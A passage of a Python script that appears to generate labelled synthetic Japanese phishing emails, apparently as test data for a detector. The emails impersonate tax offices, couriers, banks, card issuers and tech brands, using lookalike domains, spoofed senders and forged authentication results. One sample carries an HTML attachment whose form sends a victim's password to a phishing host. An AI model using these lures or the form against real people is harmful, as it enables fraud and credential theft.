<p>本通知は最終督促です。本日中に納付されない場合、財産の差押えを執行いたします。</p>
<p><a href="https://nta-go-jp.aiiw.top/e-tax/pay">e-Taxで納付する</a></p>
<p>国税庁 徴収部</p>""")
    write(P, "nta-unpaid-tax-spoof-dmarcfail-top", "国税庁", "UTF-8 base64 HTML-only",
          "From nta.go.jp dmarc=fail p=reject; 差押え 最終督促; nta-go-jp.aiiw.top",
          from_=addr("国税庁", "info@nta.go.jp"), subject=ew("【国税庁】未納税金のお知らせ（最終督促）"),
          body=leaf(h, "html"), env_from="info@nta.go.jp", relay=("aiiw.top", "47.76.200.9"),
          auth=ar_fail("nta.go.jp", "info@nta.go.jp", "REJECT"))

    # 37 NTA CP932, link text only, plain .com
    h = html("""<p>税務署からのお知らせ</p>
<p>①滞納税額：48,300円<br>②納付期限：令和7年10月20日</p>
<p>期限までに納付がない場合、延滞税が加算されます。</p>
<p>納付手続きは<a href="https://www.zeimu-nofu.com/pay/">こちら</a></p>
<p>国税庁</p>""", "Shift_JIS")
    write(P, "nta-cp932-html-link-text-only-plain-com", "国税庁", "Shift_JIS (CP932 ①) QP HTML-only",
          "link text こちら only; plain .com; 滞納 延滞税",
          from_=addr("国税庁", "notice@zeimu-nofu.com", "Shift_JIS"), subject=ew("【重要】税務署からのお知らせ", "Shift_JIS"),
          body=leaf(h, "html", "shift_jis", "quoted-printable"), env_from="notice@zeimu-nofu.com", relay=("zeimu-nofu.com", "45.32.48.101"))

    # 38 Sagawa SMS style IP literal
    t = "お客様宛にお荷物のお届けにあがりましたが不在の為持ち帰りました。配送物は下記よりご確認ください。http://103.186.117.41/sagawa\n"
    write(P, "sagawa-sms-style-ip-literal", "佐川急便", "UTF-8 8bit plain",
          "SMS-style 不在; IP-literal link; freemail",
          from_=addr("佐川急便", "sgw.delivery.jp@yahoo.co.jp"), subject=ew("佐川急便 不在通知"), body=leaf(t, cte="8bit"),
          env_from="sgw.delivery.jp@yahoo.co.jp", relay=("nh504-vm3.bullet.mail.kks.yahoo.co.jp", "183.79.56.156"))

    # 39 Yamato bit.ly
    t = """【ヤマト運輸】お届け予定のお知らせ

お客様宛のお荷物について、ご住所の不備によりお届けできませんでした。
お荷物は保管期限を過ぎると返送されます。下記より住所の確認をお願いします。

https://bit.ly/ymt-todoke

ヤマト運輸株式会社
"""
    write(P, "yamato-bitly-address-problem", "ヤマト運輸", "UTF-8 QP plain",
          "bit.ly shortener only link; 住所不備 返送",
          from_=addr("ヤマト運輸", "info@kuroneko-ymt.net"), subject=ew("【ヤマト運輸】お荷物お届けのお知らせ"),
          body=leaf(t, "plain", "utf-8", "quoted-printable"), env_from="info@kuroneko-ymt.net", relay=("kuroneko-ymt.net", "45.66.230.12"))

    # 40 Japan Post pages.dev
    h = html("""<p>日本郵便をご利用いただきありがとうございます。</p>
<p>お荷物をお届けに参りましたが、宛先不明のため配達できませんでした。</p>
<p>再配達のお申し込みは下記よりお願いいたします。再配達手数料220円が必要です。</p>
<p><a href="https://japanpost-redelivery.pages.dev/?id=7281">再配達を申し込む</a></p>""")
    write(P, "japanpost-pages-dev-redelivery-fee", "日本郵便", "UTF-8 base64 HTML-only",
          "pages.dev host; 再配達手数料 card lure",
          from_=addr("日本郵便", "no-reply@jp-post-info.com"), subject=ew("【日本郵便】ご不在連絡票"),
          body=leaf(h, "html"), env_from="no-reply@jp-post-info.com", relay=("jp-post-info.com", "185.225.74.9"))

    # 41 Apple, QP, visible official URL, wrong footer
    h = html("""<p>Apple ID</p><p>お客様各位</p>
<p>お客様のApple IDは、セキュリティ上の理由によりロックされています。</p>
<p>ロックを解除するには、以下のリンクからApple IDを確認してください。</p>
<p><a href="https://apple-id-support-jp.com/unlock">https://appleid.apple.com/</a></p>
<p>Apple サポート</p>
<p style="font-size:10px">Apple Inc. 1 Infinite Loop, Cupertino, CA 95014 | Regard, Javier T.</p>""")
    write(P, "apple-qp-visible-official-url-odd-footer", "Apple", "UTF-8 QP multipart/alternative",
          "link text appleid.apple.com, href apple-id-support-jp.com; odd footer; お客様各位",
          from_=addr("Apple", "noreply@id-apple-support.com"), subject=ew("Apple IDがロックされました"),
          body=multi("alternative", leaf("Apple IDがロックされました。\n", cte="quoted-printable"),
                     leaf(h, "html", "utf-8", "quoted-printable")),
          env_from="noreply@id-apple-support.com", relay=("id-apple-support.com", "141.98.6.20"))

    # 42 Apple iCloud storage, chinese mixed, r2.dev
    t = """您的iCloud存储空间已满

お客様のiCloudストレージの容量がいっぱいです。お支払い情報に問题があるため、写真とビデオは削除されます。
请立即更新您的付款信息：
https://pub-91c0aa12b3.r2.dev/icloud/jp.html

Apple
"""
    write(P, "apple-icloud-chinese-mixed-r2dev", "Apple", "UTF-8 base64 plain",
          "simplified Chinese mix; r2.dev; 写真削除 threat",
          from_=addr("iCloud", "icloud@storage-notify.net"), subject=ew("iCloud ストレージの容量がいっぱいです"),
          body=leaf(t), env_from="icloud@storage-notify.net", relay=("storage-notify.net", "194.26.29.4"))

    # 43 Microsoft spoof accountprotection spf softfail, firebaseapp
    h = html("""<p>Microsoft アカウント</p>
<p>パスワードの有効期限が近づいています</p>
<p>t.yamada@example.ne.jp のパスワードは本日で有効期限が切れます。同じパスワードを使い続けるには、以下から確認してください。</p>
<p><a href="https://login-microsoftonline-jp.firebaseapp.com/?e=t.yamada@example.ne.jp">同じパスワードを維持する</a></p>
<p>Microsoft アカウント チーム</p>""")
    write(P, "microsoft-spoof-spf-softfail-firebaseapp", "Microsoft", "UTF-8 base64 HTML-only",
          "From accountprotection.microsoft.com spf=softfail; firebaseapp.com; password keep",
          from_=addr("Microsoft アカウント チーム", "account-security-noreply@accountprotection.microsoft.com"),
          subject=ew("パスワードの有効期限のお知らせ"), body=leaf(h, "html"),
          env_from="account-security-noreply@accountprotection.microsoft.com", relay=("unknown", "80.94.95.112"),
          auth=ar_softfail("accountprotection.microsoft.com", "account-security-noreply@accountprotection.microsoft.com"))

    # 44 Microsoft HTML attachment (voicemail-style)
    att = """<html><head><meta charset="utf-8"><title>Microsoft 365</title></head><body>
<div>Microsoft 365 サインイン</div>
<form method="POST" action="https://ms365-docs-viewer.online/next.php">
<input type="email" name="login" value="t.yamada@example.ne.jp"><input type="password" name="passwd" placeholder="パスワード">
<button>サインイン</button></form>
<script>var u=atob('aHR0cHM6Ly9tczM2NS1kb2NzLXZpZXdlci5vbmxpbmUv');</script></body></html>"""
    t = """t.yamada@example.ne.jp 様

新しい共有ドキュメントが届いています。
添付ファイルを開き、Microsoft 365 のアカウントでサインインして確認してください。

Microsoft Office 365
"""
    write(P, "microsoft-html-attachment-password-form", "Microsoft", "UTF-8 QP + text/html attachment base64",
          "HTML attachment with prefilled password form + atob; addressed to mail address",
          from_=addr("Microsoft 365", "share@docs-ms-online.com"), subject=ew("共有ドキュメント: 請求書_2025-10.pdf"),
          body=multi("mixed", leaf(t, "plain", "utf-8", "quoted-printable"),
                     binpart(att.encode(), "text/html", "Invoice_2025-10.htm")),
          env_from="share@docs-ms-online.com", relay=("docs-ms-online.com", "5.181.86.22"))

    # 45 Netflix payment failed, display name
    h = html("""<p><img src="https://netflix-jp-billing.com/nf.png" alt="NETFLIX"></p>
<p>お支払いに問題があります</p>
<p>次回のお支払いを処理できませんでした。メンバーシップを継続するには、お支払い情報を更新してください。</p>
""" + button("https://netflix-jp-billing.com/account/payment", "お支払い情報を更新") + "<p>Netflixチーム</p>")
    write(P, "netflix-payment-failed-combo-domain", "Netflix", "UTF-8 base64 HTML-only",
          "netflix-jp-billing.com; display name",
          from_=addr("Netflix", "info@netflix-jp-billing.com"), subject=ew("お支払い情報を更新してください"),
          body=leaf(h, "html"), env_from="info@netflix-jp-billing.com", relay=("netflix-jp-billing.com", "45.155.205.3"))

    # 46 Netflix Q subject split mid-char, link text only via storage
    h = html("""<p>Netflixメンバー様</p><p>アカウントが一時停止されました。24時間以内に<a href="https://storage.googleapis.com/nfx-jp/index.html">アカウント情報を確認</a>してください。</p>""")
    write(P, "netflix-q-subject-split-storage-googleapis", "Netflix", "UTF-8 QP HTML-only; subject Q split mid-char",
          "Q encoded-word split mid-character; storage.googleapis.com; 24時間",
          from_=addr("Netflix", "support@nfx-help.info"), subject=ew("【Netflix】アカウント一時停止のお知らせ", enc="Q", split=13),
          body=leaf(h, "html", "utf-8", "quoted-printable"), env_from="support@nfx-help.info", relay=("nfx-help.info", "185.234.72.8"))

    # 47 LINE
    t = """LINEをご利用いただきありがとうございます。

お客様のアカウントで異常なログインが検出されたため、アカウントを凍結しました。
凍結を解除するには、24時間以内に下記より認証を行ってください。

https://line-me-auth.top/verify

LINE株式会社
"""
    write(P, "line-account-freeze-top", "LINE", "UTF-8 base64 plain",
          "line-me-auth.top; 凍結 24時間",
          from_=addr("LINE", "no-reply@line-me-auth.top"), subject=ew("【LINE】アカウント凍結のお知らせ"),
          body=leaf(t), env_from="no-reply@line-me-auth.top", relay=("line-me-auth.top", "45.94.31.7"))

    # 48 View card ISO-2022-JP
    t = """ビューカードをご利用いただきありがとうございます。

ビューカードでは、不正利用防止のためご利用内容の確認をお願いしております。
下記のVIEW's NETよりご確認ください。

https://www.viewsnet-jre.com/V_login

株式会社ビューカード
"""
    write(P, "viewcard-iso2022jp-lookalike-com", "ビューカード", "ISO-2022-JP 7bit",
          "viewsnet-jre.com lookalike of viewsnet.jp",
          from_=addr("ビューカード", "info@viewsnet-jre.com", "ISO-2022-JP"),
          subject=ew("【ビューカード】ご利用確認のお願い", "ISO-2022-JP"),
          body=leaf(t, "plain", "iso-2022-jp", "7bit"), env_from="info@viewsnet-jre.com", relay=("viewsnet-jre.com", "47.242.101.3"))

    # 49 TEPCO
    h = html("""<p>東京電力エナジーパートナーをご利用いただきありがとうございます。</p>
<p>電気料金のお支払いが確認できておりません。本日中にお支払いいただけない場合、送電を停止いたします。</p>
<p><a href="https://kurashi.tepco.co.jp.lhdks.cn/pay">未払い料金を支払う</a></p>""")
    write(P, "tepco-unpaid-brand-subdomain-cn", "東京電力", "UTF-8 QP HTML-only",
          "kurashi.tepco.co.jp.lhdks.cn; 送電停止 本日中",
          from_=addr("東京電力", "tepco@lhdks.cn"), subject=ew("【東京電力】電気料金未払いによる送電停止のお知らせ"),
          body=leaf(h, "html", "utf-8", "quoted-printable"), env_from="tepco@lhdks.cn", relay=("lhdks.cn", "120.79.44.10"))

    # 50 Mynapoint spoof soumu.go.jp no auth
    t = """マイナポイント事務局です。

マイナポイント（第2弾）のお申込み期限が近づいております。
まだお申込みがお済みでない方は、下記より最大20,000円分のポイントをお受け取りください。
お申込みにはクレジットカード情報の登録が必要です。

https://mynapoint-soumu.com/apply

総務省 マイナポイント事務局
"""
    write(P, "mynapoint-spoof-soumu-noauth", "マイナポイント", "UTF-8 base64 plain",
          "From soumu.go.jp no auth; combo .com; card registration; expired program",
          from_=addr("マイナポイント事務局", "info@soumu.go.jp"), subject=ew("【総務省】マイナポイント申込期限のお知らせ"),
          body=leaf(t), env_from="info@soumu.go.jp", relay=("unknown", "185.117.90.15"))

    # 51 SMBC card, text part has no URL, HTML link text only
    h = html("""<p>三井住友カードをご利用いただきありがとうございます。</p>
<p>カードの有効期限更新に伴い、新しいカードの発送先住所の確認が必要です。</p>
<p><a href="https://smbccard-update.info/">ご住所の確認</a></p>""")
    write(P, "smbc-card-link-text-only-text-part-nourl", "三井住友カード", "UTF-8 base64 multipart/alternative",
          "text part says see HTML; no URL visible anywhere; smbccard-update.info",
          from_=addr("三井住友カード", "info@smbccard-update.info"), subject=ew("【三井住友カード】新カード発送先のご確認"),
          body=multi("alternative", leaf("本メールはHTML形式でお送りしています。\n"), leaf(h, "html")),
          env_from="info@smbccard-update.info", relay=("smbccard-update.info", "43.198.4.17"))

    # 52 Rakuten card, attacker dkim pass, plain .com no brand
    h = html("""<p>楽天カード会員様</p>
<p>楽天ポイントの有効期限が近づいています。期間限定ポイント 3,200ポイントが2025年10月20日に失効します。</p>
<p>ポイントを楽天キャッシュへ移行するには、楽天会員情報でログインしてください。</p>
<p><a href="https://www.kaiin-kakunin.com/rc/login">楽天会員ログイン</a></p>""")
    write(P, "rakuten-card-points-dmarc-pass-plain-com", "楽天カード", "UTF-8 QP multipart/alternative",
          "attacker domain DMARC pass; plain .com no brand; ポイント失効 lure",
          from_=addr("楽天カード", "point@kaiin-kakunin.com"), subject=ew("【楽天カード】ポイント失効のお知らせ"),
          body=multi("alternative", leaf("楽天会員ログイン https://www.kaiin-kakunin.com/rc/login\n", "plain", "utf-8", "quoted-printable"),
                     leaf(h, "html", "utf-8", "quoted-printable")),
          env_from="bounce@kaiin-kakunin.com", relay=("mx2.kaiin-kakunin.com", "37.120.222.9"),
          auth=ar_pass("kaiin-kakunin.com", "bounce@kaiin-kakunin.com", "NONE"), dkim_d="kaiin-kakunin.com")

    # 53 Amazon multipart/related logo, link goes to Google redirect to dynamic DNS
    h = html("""<p><img src="cid:amz" alt="amazon"></p>
<p>ご注文の商品を発送できませんでした</p>
<p>お支払い方法が承認されませんでした。ご注文番号 503-4481720-1192836 を発送するには、お支払い情報を確認してください。</p>
""" + button("https://www.google.co.jp/url?sa=t&url=https%3A%2F%2Famzjp.duckdns.org%2Fpay", "お支払い情報を確認") + "")
    write(P, "amazon-related-logo-google-redirect-duckdns", "Amazon", "UTF-8 base64 multipart/related inline PNG",
          "brand only as logo alt + order number; google.co.jp/url redirect to duckdns",
          from_=addr("Amazon.co.jp", "order-update@amazon-shipping-notice.net"), subject=ew("Amazon.co.jp ご注文の発送に関する問題"),
          body=multi("related", leaf(h, "html"), binpart(PNG, "image/png", "amz.png", cid="amz")),
          env_from="order-update@amazon-shipping-notice.net", relay=("amazon-shipping-notice.net", "195.133.20.1"))

    # 54 JCB SMS-style one link plain .com
    t = "JCBカードの利用が一時停止されました。確認はこちら https://www.card-anzen.com/j\n"
    write(P, "jcb-sms-style-plain-com", "JCB", "UTF-8 8bit plain",
          "SMS-style one line; plain .com; no display name",
          from_=addr("", "jcb-info@card-anzen.com"), subject=ew("JCBカード"), body=leaf(t, cte="8bit"),
          env_from="jcb-info@card-anzen.com", relay=("card-anzen.com", "91.215.85.40"))

    # 55 AEON spoof aeon.co.jp softfail
    t = """イオンカード会員様

【重要】イオンカードのご利用確認について

お客様のカードにおいて、海外サイトでの不審なご利用が検知されました。
ご本人様のご利用か確認するため、下記よりカード番号・有効期限・セキュリティコードをご入力ください。

https://aeon-card.jp-aeon.vip/check

イオンクレジットサービス株式会社
"""
    write(P, "aeon-card-spoof-softfail-vip", "イオンカード", "UTF-8 QP plain",
          "From aeon.co.jp spf=softfail; asks card number + CVV; .vip",
          from_=addr("イオンカード", "info@aeon.co.jp"), subject=ew("【重要】イオンカードのご利用確認"),
          body=leaf(t, "plain", "utf-8", "quoted-printable"), env_from="info@aeon.co.jp", relay=("unknown", "27.50.51.9"),
          auth=ar_softfail("aeon.co.jp", "info@aeon.co.jp"))

    # 56 Eki-net chinese-mixed with points
    t = """えきねっと会员様

您的JRE POINT将于本月到期失效。请在期限内登录えきねっと账户进行确认。

https://eki-net.jre-point.cc/login

东日本旅客鉄道株式会社
"""
    write(P, "ekinet-chinese-mixed-points-cc", "えきねっと", "UTF-8 QP plain",
          "simplified Chinese; .cc subdomain brand; ポイント失効",
          from_=addr("えきねっと", "info@jre-point.cc"), subject=ew("【えきねっと】ポイント失效通知"),
          body=leaf(t, "plain", "utf-8", "quoted-printable"), env_from="info@jre-point.cc", relay=("jre-point.cc", "47.89.3.5"))

    # 57 SMBC bank, html-only utf-8, .buzz
    h = html("""<p>お客様各位</p><p>三井住友銀行では、本人確認手続きの強化を行っております。</p>
<p>ワンタイムパスワードの再設定を行わない場合、2025年10月18日以降、お取引がご利用いただけなくなります。</p>
<p><a href="https://smbc-co-jp.buzz/ib/">https://www.smbc.co.jp/</a></p>""")
    write(P, "smbc-bank-visible-official-buzz", "三井住友銀行", "UTF-8 base64 HTML-only",
          "link text www.smbc.co.jp, href smbc-co-jp.buzz; お客様各位; OTP reset",
          from_=addr("SMBC", "ib@smbc-co-jp.buzz"), subject=ew("【三井住友銀行】ワンタイムパスワード再設定のお願い"),
          body=leaf(h, "html"), env_from="ib@smbc-co-jp.buzz", relay=("smbc-co-jp.buzz", "45.9.148.3"))

    # 58 docomo dpoint plain .com
    t = """いつもドコモをご利用いただきありがとうございます。

お客様の保有するdポイント 12,480ポイントが今月末で失効します。
失効前に下記より交換手続きを行ってください。

https://www.point-koukan.com/d/

NTTドコモ
"""
    write(P, "docomo-dpoint-plain-com", "docomo", "ISO-2022-JP 7bit",
          "plain .com no brand; ポイント失効",
          from_=addr("ドコモ", "info@point-koukan.com", "ISO-2022-JP"), subject=ew("【dポイント】ポイント失効のお知らせ", "ISO-2022-JP"),
          body=leaf(t, "plain", "iso-2022-jp", "7bit"), env_from="info@point-koukan.com", relay=("point-koukan.com", "45.128.232.70"))

    # 59 Yucho IP literal https, SJIS
    t = """ゆうちょ銀行からのお知らせ

ゆうちょ認証アプリの更新が必要です。更新されない場合、ゆうちょダイレクトのご利用を停止いたします。
https://154.23.183.9/yuchoapp/

株式会社ゆうちょ銀行
"""
    write(P, "yucho-sjis-ip-literal-https", "ゆうちょ銀行", "Shift_JIS QP plain",
          "https IP-literal link; 利用停止",
          from_=addr("ゆうちょ銀行", "jpbank@yc-info.net", "Shift_JIS"), subject=ew("ゆうちょ認証アプリ更新のお願い", "Shift_JIS"),
          body=leaf(t, "plain", "shift_jis", "quoted-printable"), env_from="jpbank@yc-info.net", relay=("yc-info.net", "154.23.183.9"))

    # 60 au PAY card, spoof au.com dmarc fail, html with visible official url
    h = html("""<p>au PAY カードをご利用いただきありがとうございます。</p>
<p>お客さまのカードのご利用が制限されています。ご本人確認のうえ、制限を解除してください。</p>
<p><a href="https://aupay-card.kddi-member.online/login">https://www.kddi-fs.com/</a></p>""")
    write(P, "au-pay-card-spoof-dmarcfail-visible-official", "au", "UTF-8 QP HTML-only",
          "From au.com dmarc=fail; link text official kddi-fs.com, href .online",
          from_=addr("au PAY カード", "info@au.com"), subject=ew("【au PAY カード】ご利用制限のお知らせ"),
          body=leaf(h, "html", "utf-8", "quoted-printable"), env_from="info@au.com", relay=("unknown", "64.226.80.3"),
          auth=ar_fail("au.com", "info@au.com", "REJECT"))

    # 61 Sagawa, text with link text only in HTML, web.app
    h = html("""<p>佐川急便をご利用いただきありがとうございます。</p><p>お荷物の配達予定日時の確認をお願いします。</p>
<p><a href="https://sagawa-exp-jp.web.app/t">配達状況を確認する</a></p>""", "Shift_JIS")
    write(P, "sagawa-sjis-html-webapp", "佐川急便", "Shift_JIS base64 HTML-only",
          "web.app host; link text only",
          from_=addr("佐川急便", "info@sagawa-tracking.net", "Shift_JIS"), subject=ew("佐川急便 配達予定のご案内", "Shift_JIS"),
          body=leaf(h, "html", "shift_jis", "base64"), env_from="info@sagawa-tracking.net", relay=("sagawa-tracking.net", "45.80.158.30"))
